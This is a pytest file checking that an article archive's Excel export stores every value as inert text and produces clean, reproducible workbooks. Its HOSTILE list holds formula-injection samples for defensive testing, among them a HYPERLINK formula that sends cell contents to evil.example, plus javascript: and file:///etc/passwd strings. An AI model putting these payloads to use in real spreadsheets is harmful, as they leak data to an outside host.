"""Workbooks, as openpyxl reads them: every value as text, and nothing of a page is run."""

import zipfile
from dataclasses import replace

import openpyxl
import pytest

from archive import Archive, Photo
from archive.errors import CannotExport
from archive.export import export, xlsx
from archive.export.rows import COLUMNS, MAX_CELL, PHOTO_COLUMNS, article_row
from tests.archive.cli.test_commands import run
from tests.archive.export.test_export import TRICKY, write
from tests.archive.samples import NOON, make_article, make_visit

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+84",
    "-Tin",
    "@SUM(1)",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "http://evil.example/",
    "mailto:a@b.vn",
    "00123",
    "30/4",
    "_x0041_",
    "<b>&amp;]]>",
    " trước và sau ",
    "{=1}",
)


def sheets(path):
    book = openpyxl.load_workbook(path)
    return {sheet.title: list(sheet.iter_rows()) for sheet in book.worksheets}


def test_a_workbook_has_every_value_as_a_text(tmp_path):
    article = make_article(1, photos=tuple(Photo(url="javascript:x", caption=text) for text in HOSTILE))
    others = [make_article(number, title=text) for number, text in enumerate(HOSTILE, start=10)]
    rows = sheets(write([article, TRICKY, *others], "xlsx", tmp_path))
    assert [cell.value for cell in rows["articles"][0]] == list(COLUMNS)
    assert [cell.value for cell in rows["photos"][0]] == list(PHOTO_COLUMNS)
    every = [cell for sheet in rows.values() for row in sheet for cell in row if cell.value is not None]
    assert {cell.data_type for cell in every} == {"s", "n"}
    assert all(cell.hyperlink is None for cell in every)
    titles = {row[COLUMNS.index("key")].value: row[COLUMNS.index("title")].value for row in rows["articles"][1:]}
    written = [text.replace("_x0041_", "_x005F_x0041_") for text in HOSTILE]  # else Excel takes it for an A
    assert [titles[str(number)] for number, _ in enumerate(HOSTILE, start=10)] == written
    captions = [row[PHOTO_COLUMNS.index("caption")].value for row in rows["photos"][1:] if row[1].value == "1"]
    assert captions[:11] == list(HOSTILE[:11])
    row = next(row for row in rows["articles"] if row[COLUMNS.index("key")].value == "2")
    assert [cell.value for cell in row] == article_row(replace(TRICKY, fetched_at=NOON, sha256=row[-1].value))


def test_what_xml_cannot_have_is_left_out_and_what_no_cell_holds_is_cut_and_told(tmp_path, capsys):
    longer = "😀" * (MAX_CELL // 2 + 1)
    odd = make_article(1, title="a\ufffeb\uffffc\x0bd\x01", body=(longer,))
    [_, row] = sheets(write([odd], "xlsx", tmp_path))["articles"]
    assert row[COLUMNS.index("title")].value.replace("\x0b", "") == "abcd"
    body = row[COLUMNS.index("body")].value
    assert (body[-4:], len(body.encode("utf-16-le")) <= 2 * MAX_CELL) == (" […]", True)
    assert capsys.readouterr().err == (
        "1 cell is longer than the 32,767 characters of a cell in Excel and end there with […]:"
        " csv without --excel has them whole\n"
    )


def test_more_rows_than_a_sheet_has_are_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)
    with pytest.raises(
        CannotExport, match="a sheet in Excel has 3 rows, and this is more: choose days or sites, or csv"
    ):
        write([make_article(number) for number in range(3)], "xlsx", tmp_path)
    assert not list(tmp_path.glob("*out*"))


def test_nothing_in_a_workbook_tells_the_day_of_the_export(tmp_path):
    with zipfile.ZipFile(write([make_article(1)], "xlsx", tmp_path)) as book:
        assert b"2026-03-01T12:00:00Z" in book.read("docProps/core.xml"), "the archive's newest visit"
        assert {info.date_time[0] for info in book.infolist()} == {1980}
        assert not [name for name in book.namelist() if "vba" in name.lower() or "external" in name.lower()]


def test_the_ending_says_the_format(tmp_path):
    with Archive.open(tmp_path / "a.db") as archive:
        archive.save(make_visit(make_article(1)))
    for options in (("-o", tmp_path / "a.xlsx"), ("-o", tmp_path / "b", "--format", "xlsx")):
        done = run("export", *options, "--archive", tmp_path / "a.db")
        assert (done.returncode, len(sheets_of(options[1])["articles"])) == (0, 2), done.stderr


def sheets_of(path):
    with path.open("rb") as file:
        return sheets(file)


def test_a_disk_that_is_full_is_an_error_of_the_system(tmp_path):
    with pytest.raises(OSError) as raised, Archive.open(tmp_path / "a.db") as archive:
        archive.save(make_visit(make_article(1)))
        from archive.export.source import open_source

        with open("/dev/full", "wb", buffering=0) as full, open_source(archive) as source:
            export(source, "xlsx", full)
    assert raised.value.errno == 28
